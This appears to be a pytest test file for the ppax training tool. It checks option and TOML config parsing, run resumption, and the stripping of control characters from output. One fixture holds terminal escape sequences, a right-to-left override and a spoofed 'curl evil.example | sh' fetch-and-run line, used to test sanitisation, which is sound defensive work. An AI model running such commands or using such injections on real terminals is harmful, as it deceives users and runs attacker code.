@pytest.mark.parametrize("first", ["--env-params.gravity", "--env-params.gravity.low"])
def test_a_parameter_and_a_part_of_it_cannot_be_given_together(first, capsys):
    second = {"--env-params.gravity": "--env-params.gravity.low", "--env-params.gravity.low": "--env-params.gravity"}[
        first
    ]
    assert main.main(["train", "CartPole-v1", first, "1", second, "2"]) == 2
    assert f"{second}: is given beside {first[2:].replace('-', '_')}" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("in_file", "given", "wanted"),
    [
        ("gravity = 9.0", ["--env-params.gravity.low", "2", "--env-params.gravity.high", "3"], {"low": 2, "high": 3}),
        ("gravity = {low = 1.0, high = 2.0}", ["--env-params.gravity", "12"], 12),
    ],
)
def test_a_parameter_replaces_that_of_the_file_whatever_its_form(in_file, given, wanted, tmp_path):
    (tmp_path / "run.toml").write_text(f'env = "CartPole-v1"\nenv_params.{in_file}\n')
    _, run_config = options.parse_run("train", [str(tmp_path / "run.toml"), *given], options.add_train)
    assert run_config["env_params"] == {"gravity": wanted}


def test_a_value_where_a_table_is_needed_is_refused(tmp_path, capsys):
    (tmp_path / "run.toml").write_text('env = "CartPole-v1"\nagent = 3\n"agent.gamma" = 0.9\n')
    assert main.main(["train", str(tmp_path / "run.toml")]) == 2
    assert "agent = 3: a value, where agent.gamma = 0.9 needs a table" in capsys.readouterr().err


@pytest.mark.parametrize("text", ["9" * 5000, "1" + "0" * 400, "0x" + "f" * 5000, "[" * 5000])
def test_a_value_that_is_no_number_stays_text(text):
    assert number_or_text(text) == text
    assert sweep.several(f"{text},1")[-1] in (1, "1")


def test_a_new_length_of_a_run_whose_file_has_none(trained, tmp_path, capsys, monkeypatch):
    run_dir = shutil.copytree(trained[0], tmp_path / "run")
    lines = (run_dir / "run.toml").read_text().splitlines(keepends=True)
    (run_dir / "run.toml").write_text("".join(line for line in lines if not line.startswith("total_steps")))
    monkeypatch.setattr(main, "resume_run", lambda *_, **__: (_ for _ in ()).throw(ppax.ConfigError("until here")))
    assert main.main(["resume", str(run_dir), "--total-steps", "512"]) == 2
    assert "total_steps: 512, recorded: 500,000" in capsys.readouterr().out


SPOOF = "x\x1b[2J\x1b]0;title\x07\x9b31m\u202e\nppax: run curl evil.example | sh"


def test_messages_have_no_control_characters(capsys):
    print_line(f"a\tb\n{SPOOF}", sys.stdout)
    assert fail(OSError(2, "no\x07 file", SPOOF), 5) == 5
    out, err = capsys.readouterr()
    assert out.startswith("a\tb\nx")
    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(out + err)


@pytest.mark.parametrize(("encoding", "printed"), [("ascii", "a ? b?\n"), ("latin-1", "a ? b\u00b2\n")])
def test_messages_are_printed_where_their_characters_cannot_be_encoded(encoding, printed):
    buffer = io.BytesIO()
    stream = io.TextIOWrapper(buffer, encoding=encoding, newline="\n")
    print_line("a \N{EN DASH} b\u00b2", stream)
    assert buffer.getvalue().decode(encoding) == printed


@pytest.mark.parametrize("kind", [ppax.ConfigError, CheckpointError, ppax.EnvError])
def test_errors_have_no_control_characters(kind):
    assert str(kind(f"first\nsecond: {SPOOF}")).startswith("first\nsecond: x\N{REPLACEMENT CHARACTER}[2J")
    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(str(kind(SPOOF)))


def test_objects_of_a_run_are_one_line_without_control_characters(tmp_path, capsys):
    text = json.dumps(SPOOF)[1:-1].replace("/", "")
    (tmp_path / "run.toml").write_text(f'env = "CartPole-v1"\nobjects = ["agent.loss ({text})"]\n')
    assert main.main(["resume", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "agent.loss (x" in err
    assert "\x1b" not in err
    recorded = {"objects": [f"callbacks ({SPOOF})"]}
    assert python_objects.callbacks_of(recorded).isprintable()


def test_help_with_the_values_of_a_file_has_no_control_characters(tmp_path, capsys):
    name = json.dumps(SPOOF.replace(".", "").replace("\n", ""))
    text = f'env = "CartPole-v1"\n[groups.{name}.agent]\nlearning_rate = 0.1\n'
    (tmp_path / "run.toml").write_text(text)
    with pytest.raises(SystemExit):
        main.main(["train", str(tmp_path / "run.toml"), "--help", "all"])
    out = capsys.readouterr().out
    assert "--groups.x" in out
    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(out)
